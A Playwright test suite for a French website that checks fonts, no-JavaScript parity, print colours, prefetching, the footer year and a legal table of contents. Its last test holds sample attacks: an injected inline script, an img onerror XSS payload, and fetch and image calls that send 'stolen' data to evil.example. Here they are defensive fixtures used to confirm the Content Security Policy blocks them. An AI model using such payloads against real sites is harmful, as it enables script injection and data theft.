import terms from '../../locales/fr/cgu.json' with { type: 'json' };
import common from '../../locales/fr/common.json' with { type: 'json' };
import { fontsOf } from './fonts.ts';
import { noiseOf, paths } from './paths.ts';
import { expect, test } from './test.ts';

/** What needs a script. */
const inHand =
  '[data-hours-sheet], [data-gauge], [data-calendar], [data-open-questions], [data-print]';

for (const path of paths) {
  test.describe(`the page ${path}`, () => {
    test.beforeEach(({ expectedNoise }) => {
      expectedNoise.push(...noiseOf(path));
    });

    test('has its headings in the site’s font, the same texts without JavaScript, and then a button that shows the e-mail address (RGAA 7.2)', {
      tag: '@chromium',
    }, async ({ page, browser, baseURL }) => {
      await page.goto(path);
      await page.evaluate(() => document.fonts.ready);
      const fonts = (await fontsOf(page, 'h1, h2, h3')).flat();
      expect(fonts).not.toEqual([]);
      expect(fonts.filter(({ isCustomFont }) => !isCustomFont)).toEqual([]);
      const plain = await browser.newPage({
        javaScriptEnabled: false,
        baseURL: baseURL ?? '',
        locale: 'fr-FR',
      });
      await plain.goto(path);
      await expect(
        plain.locator(inHand).locator('button:visible, input:visible'),
        'what needs a script has no button that does nothing',
      ).toHaveCount(0);
      // What only a script can do: the pictures in a visitor's hand, and print.
      const textsOf = (one: typeof page) =>
        one.locator('main').evaluate((main, inHand) => {
          for (const part of main.querySelectorAll(inHand)) {
            part.remove();
          }
          return (main as HTMLElement).innerText;
        }, inHand);
      expect(await textsOf(plain)).toBe(await textsOf(page));
      await expect(plain.getByRole('contentinfo').getByRole('link', { name: /@/ })).toBeVisible();
      const direct = plain.getByRole('dialog', { name: common.direct.title });
      await plain.locator('button[aria-haspopup]:visible').first().click();
      await expect(direct.getByRole('link', { name: /@/ })).toBeVisible();
      await direct.getByRole('button', { name: common.direct.close }).click();
      await expect(direct).toBeHidden();
      await plain.close();
    });
  });
}

test('a heading is in the site’s font', { tag: '@firefox' }, async ({ page }) => {
  await page.goto('/');
  const heading = page.getByRole('heading', { level: 1 });
  const family = await heading.evaluate((element) => getComputedStyle(element).fontFamily);
  const [name = ''] = family.replaceAll('"', '').split(',');
  const loadedFonts = () =>
    [...document.fonts]
      .filter(({ status }) => status === 'loaded')
      .map(({ family }) => family.replaceAll('"', ''));
  await expect.poll(() => page.evaluate(loadedFonts)).toContain(name);
});

test('a page is printed in the light theme, whatever the screen shows', {
  tag: '@chromium',
}, async ({ page }) => {
  await page.goto('/');
  const colours = () =>
    page.locator('main td, h1').evaluateAll((elements) =>
      elements.map((element) => {
        const { color, backgroundColor } = getComputedStyle(element);
        return color + backgroundColor;
      }),
    );
  await page.emulateMedia({ media: 'print', colorScheme: 'light' });
  const inLight = await colours();
  await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
  expect(await colours()).toEqual(inLight);
});

test('the next page is fetched while the pointer is on its link', { tag: '@chromium' }, async ({
  page,
}) => {
  await page.goto('/');
  const prefetched = page
    .context()
    .waitForEvent('request', (request) => request.url().endsWith('/cgu'));
  await page.locator('footer a[href="/cgu"]').hover();
  expect((await (await prefetched).allHeaders())['sec-purpose']).toBe('prefetch');
});

test('the footer shows the current year, and never one before the site was built', {
  tag: '@chromium',
}, async ({ page }) => {
  for (const [clock, shown] of [
    ['2031-02-03', '2031'],
    ['2001-02-03', String(new Date().getFullYear())],
  ] as const) {
    await page.clock.setFixedTime(clock);
    await page.goto('/');
    await expect(page.getByRole('contentinfo')).toContainText(`© ${shown}`);
  }
});

test('the table of contents of a legal page marks the article that is read, below the header', async ({
  page,
}) => {
  await page.goto('/cgu');
  const contents = page.getByRole('navigation', { name: common.legalPage.contents });
  const titles = Object.values(terms.articles).map(({ title }) => title);
  const [middle = '', last = ''] = [titles[5], titles.at(-1)];
  await contents.getByRole('link', { name: middle }).click();
  await expect(contents.locator('[aria-current]')).toHaveText(middle);
  const header = await page.getByRole('banner').boundingBox();
  const heading = await page.getByRole('heading', { name: middle }).boundingBox();
  expect(heading?.y).toBeGreaterThan((header?.height ?? Number.NaN) - 1);
  // The last articles cannot scroll to the top.
  await contents.getByRole('link', { name: last }).click();
  await expect(contents.locator('[aria-current]')).toHaveText(last);
});

test('the policy of a page refuses an inline script, markup from a script, another site', {
  tag: '@chromium',
}, async ({ page, expectedNoise }) => {
  expectedNoise.push(/Content Security Policy|TrustedHTML|violates|evil\.example/);
  await page.route('/deployment', async (route) => {
    const response = await route.fetch();
    const planted = '<script>window.planted = 1</script></body>';
    await route.fulfill({
      response,
      body: (await response.text()).replace('</body>', planted),
    });
  });
  const refused: string[] = [];
  await page.exposeFunction('refuse', (directive: string) => refused.push(directive));
  await page.addInitScript(() => {
    const { refuse } = window as unknown as { refuse(directive: string): void };
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refuse(effectiveDirective),
    );
  });
  await page.goto('/deployment');
  const attacks: (() => unknown)[] = [
    () => {
      document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
    },
    () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
    () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
  ];
  for (const attack of attacks) {
    await page.evaluate(attack).catch(() => undefined);
  }
  const directives = ['connect-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'];
  await expect.poll(() => [...new Set(refused)].sort()).toEqual(directives);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});
